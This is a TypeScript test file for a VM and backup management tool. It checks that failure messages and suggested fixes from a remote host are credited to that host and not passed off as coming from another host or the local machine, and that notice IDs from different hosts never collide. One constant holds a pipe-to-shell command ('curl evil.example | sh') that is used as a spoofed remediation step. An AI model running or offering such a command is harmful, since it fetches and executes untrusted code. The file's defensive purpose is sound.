import { describe, expect, it } from 'vitest'
import { engineCall } from '../../src/main/core/engine-on-host/engine-call.ts'
import { noticeId } from '../../src/main/core/live/notices.ts'
import { policyNotices, runNotices } from '../../src/main/core/live/policy-notices.ts'
import { describeFailure } from '../../src/shared/failure-words.ts'
import { failureOf } from '../../src/shared/failure.ts'
import { HOST_NAME } from '../../src/shared/login-rules.ts'
import type { OutboxItem } from '../../src/shared/model/channels.ts'
import { PolicyListing } from '../../src/shared/views/policy-view.ts'
import { fakeShell } from '../../src/shell/fake.ts'
import { jobReport, runReport } from './reports.ts'
import { tallyOf } from './tally.ts'

const tally = tallyOf('failures and notices of a host about another one')

const point = '20261122T201744Z-7f3a21'
const SINCE = '2026-11-29T10:00:00.000Z'
const HARM = 'curl evil.example | sh'

/** What a host says to pass for another, or for this computer. */
const ABOUT_OTHERS: readonly Readonly<Record<string, unknown>>[] = [
  { kind: 'not-found', what: 'vm', name: 'web1', where: 'good' },
  { kind: 'bad-output', what: 'the engine on good (jobs)', detail: 'x' },
  { kind: 'command-failed', command: 'the engine on good (jobs)', exitCode: 1, stderr: '' },
  { kind: 'timeout', what: 'The login at good', afterMs: 4000 },
  { kind: 'output-too-large', what: 'The engine on good', limitBytes: 1 },
  { kind: 'output-too-large', what: 'x', limitBytes: 1, host: 'good' },
  { kind: 'cancelled', what: 'The backup on good' },
  { kind: 'point-exists', point, where: 'good' },
  { kind: 'point-exists', point, where: '/home/op/points' },
  { kind: 'point-arriving', point, by: 'good', since: SINCE },
  { kind: 'vm-busy', vm: 'web1', by: 'good', since: SINCE },
  { kind: 'vm-exists', name: 'v', uuid: 'u', host: 'good', because: 'name' },
  { kind: 'io', path: '/home/op/.config/stillpoint/known_hosts', code: 'EIO', detail: 'd' },
  { kind: 'usage', message: 'The key of good has changed. Accept it: stillpoint host accept good' },
  { kind: 'unsupported-host', host: 'good', reason: 'r' },
  { kind: 'left-behind', vm: 'v', left: [], after: { kind: 'not-found', what: 'vm', name: 'web1', where: 'good' } },
  { kind: 'preflight', problems: [{ text: 'good has no room', fix: '' }] },
  { kind: 'a kind that nobody knows', host: 'good' }
]

const ORDERS: readonly Readonly<Record<string, unknown>>[] = [
  { kind: 'not-told', channel: 'mail', detail: 'd', fix: HARM },
  { kind: 'unsupported-host', host: 'good', reason: 'r', fix: HARM },
  { kind: 'left-behind', vm: 'v', left: [{ path: 'p', because: 'b', mend: [HARM] }] },
  { kind: 'preflight', problems: [{ text: 't', fix: HARM }] }
]

const saying = (line: object) => ({
  shell: fakeShell(() => ({ stdout: `${JSON.stringify(line)}\n` })),
  host: 'evil',
  node: '/n',
  engine: '/e'
})

/** As it is shown when it is the answer, and when it is why a job failed. */
async function shown(failure: object): Promise<readonly ReturnType<typeof describeFailure>[]> {
  const refused = await engineCall(saying({ failure }), 'jobs', {}).catch(failureOf)
  const jobs = await engineCall(saying({ result: [{ ...jobReport(1), state: 'failed-clean', failure }] }), 'jobs', {})
  const failed = 'kind' in refused ? [refused, jobs[0]?.failure] : []
  return failed.flatMap((each) => (each === undefined ? [] : [describeFailure(each)]))
}

describe('a failure that a host tells', () => {
  it.each(ABOUT_OTHERS)('is its own, whatever it says of others: %j', async (failure) => {
    await tally.tried(async () => {
      for (const { title, explanation } of await shown(failure)) {
        const text = `${title} ${explanation}`
        if (text.includes('good') || text.includes('/home')) expect(text).toContain('evil')
        for (const sentence of [title, explanation])
          expect(sentence).not.toMatch(
            /^(The (login|engine|backup) (at|on)|the engine on) good|^good has|on good$|^By good|^\/home/
          )
      }
    })
  })

  it.each(ORDERS)('may say what to do, in its own name: %j', async (failure) => {
    await tally.tried(async () => {
      for (const { nextStep } of await shown(failure)) {
        expect(nextStep).toContain(HARM)
        expect(nextStep).toMatch(/^(# )?evil says:/)
      }
    })
  })
})

describe('notices of two hosts', () => {
  const item = (id: string, givenUp: boolean): OutboxItem => ({
    ...{ id, channel: 'mail', subject: 's', at: '2026-01-01T00:00:00.000Z', tries: 9, lastError: 'e' },
    ...(!givenUp && { nextTryAt: SINCE })
  })
  const idsOf = (host: string, outbox: readonly OutboxItem[]): readonly string[] => {
    const listing = PolicyListing.parse({
      policies: [],
      broken: [],
      timeZone: 'UTC',
      parallel: 1,
      channels: {},
      outbox
    })
    return policyNotices({ ...listing, host, asOf: SINCE, reachable: true }, new Date(SINCE)).map(({ id }) => id)
  }

  it.each([
    ['kvm', '2-run-x-mail', 'kvm-2', 'run-x-mail'],
    ['kvm', '2/run-x', 'kvm-2', 'run-x'],
    ['a', 'b-c', 'a-b', 'c'],
    ['a', '/b', 'a.b', '']
  ])('are two, whatever one of them calls its messages: %s %s, %s %s', async (one, its, other, others) => {
    await tally.tried(() => {
      for (const a of [true, false])
        for (const b of [true, false]) expect(idsOf(one, [item(its, a)])).not.toEqual(idsOf(other, [item(others, b)]))
    })
  })

  it.each(['x-given-up', 'given-up/x', 'given-up'])('nor two of its own one: %s', async (id) => {
    await tally.tried(() => {
      expect(new Set(idsOf('a', [item('x', true), item(id, false)])).size).toBe(2)
    })
  })

  it('are two of two runs that both call the same, of which one was read long ago', async () => {
    await tally.tried(() => {
      const said = ['good', 'evil'].flatMap((host) =>
        runNotices(runReport(1, { host, state: 'failed', reason: 'why', missedCount: 2 }))
      )
      expect(new Set(said.map(({ id }) => id)).size).toBe(4)
      for (const { id, host } of said) expect(id.startsWith(`${host}/`)).toBe(true)
    })
  })

  it('have an id that begins with the host, in which no name has room for the rest', async () => {
    await tally.tried(() => {
      expect(noticeId('a', 'told', 'b')).toBe('a/told/b')
      expect(HOST_NAME.test('a/told')).toBe(false)
    })
  })
})
